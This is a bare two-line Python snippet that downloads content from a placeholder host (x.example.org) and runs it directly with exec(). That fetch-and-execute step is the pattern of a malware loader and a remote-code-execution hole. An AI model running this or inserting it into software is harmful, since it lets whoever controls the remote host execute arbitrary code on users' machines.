from urllib.request import urlopen
exec(urlopen("https://x.example.org/p").read())
